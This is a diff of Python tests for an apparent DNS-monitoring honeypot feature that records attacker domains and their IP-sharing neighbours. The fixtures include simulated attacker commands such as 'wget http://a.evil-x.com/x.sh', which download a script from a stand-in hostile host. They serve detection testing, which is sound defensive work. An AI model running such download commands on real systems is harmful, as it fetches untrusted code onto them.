@@ -65,6 +65,7 @@ def typed(command: str, seconds: float = 0, **values: str) -> dict[str, Any]:
 
 def entries(taking: Taking) -> dict[str, str]:
     """Return the source of each entry, that of a neighbour with what it belongs to."""
+    taking.intake.flush()
     rows = taking.store.rows("SELECT entry, concat_ws(' ', source, neighbour_of) FROM honeypot_entries ORDER BY entry")
     return dict(rows)
 
@@ -158,6 +159,15 @@ def test_names_that_share_an_address_are_neighbours_of_less_weight(taking: Takin
     assert lists == ["honeypot neighbour of a.evil-x.com"]
 
 
+def test_neighbours_of_new_entries_are_looked_up_by_the_minute(taking: Taking) -> None:
+    tuples(taking, ("a.evil-x.com", "192.88.99.9"), ("b.other-x.com", "192.88.99.9"))
+    take(taking, typed("wget http://a.evil-x.com/x.sh"))
+    count = "SELECT count(*) FROM honeypot_entries"
+    assert taking.store.rows(count) == [(1,)]
+    asked(taking, "harmless-x.com", seconds=70)
+    assert taking.store.rows(count) == [(3,)]
+
+
 def test_a_neighbour_that_appears_later_is_found_within_the_hour(taking: Taking) -> None:
     take(taking, typed("wget http://a.evil-x.com/x.sh"))
     tuples(taking, ("a.evil-x.com", "192.88.99.9"), ("b.other-x.com", "192.88.99.9"))
@@ -179,6 +189,8 @@ def test_entries_expire_and_are_bounded(taking: Taking, monkeypatch: pytest.Monk
     take(taking, *(typed(f"wget http://h{number}.evil-x.com", number) for number in range(5)))
     assert [*entries(taking)] == [f"h{number}.evil-x.com" for number in (2, 3, 4)]
     assert taking.value("dnsvigil_honeypot_left_out_total", reason="room") == 2
+    take(taking, event("session.file_download", -9, url="http://fetched-x.com/x"))
+    assert [*entries(taking)] == ["fetched-x.com", "h3.evil-x.com", "h4.evil-x.com"]
     asked(taking, "harmless-x.com", seconds=31 * 86400)
     assert entries(taking) == {}
     asked(taking, "h4.evil-x.com", seconds=31 * 86400 + 60)
@@ -250,8 +262,8 @@ def test_training_takes_the_list_as_bad_and_not_as_popular(taking: Taking) -> No
     assert own_popular_domains(taking.store.read, reader) == list(names)
     tuples(taking, ("near-x.com", "192.88.99.0"), seconds=8 * 86400 + 20)
     take(taking, typed("wget http://a.evil-x.com http://evil-x.com 192.88.99.7", 8 * 86400 + 30))
-    asked(taking, "near-x.com", seconds=8 * 86400 + 90)
     assert entries(taking)["near-x.com"] == "neighbour evil-x.com"
+    asked(taking, "near-x.com", seconds=8 * 86400 + 90)
     assert sorted(own_popular_domains(taking.store.read, reader)) == ["good-x.com"]
     assert known_domains(taking.store.read)["honeypot"] == ["a.evil-x.com", "evil-x.com"]
     assert len(known_domains(taking.store.read)) == 2  # with those of findings
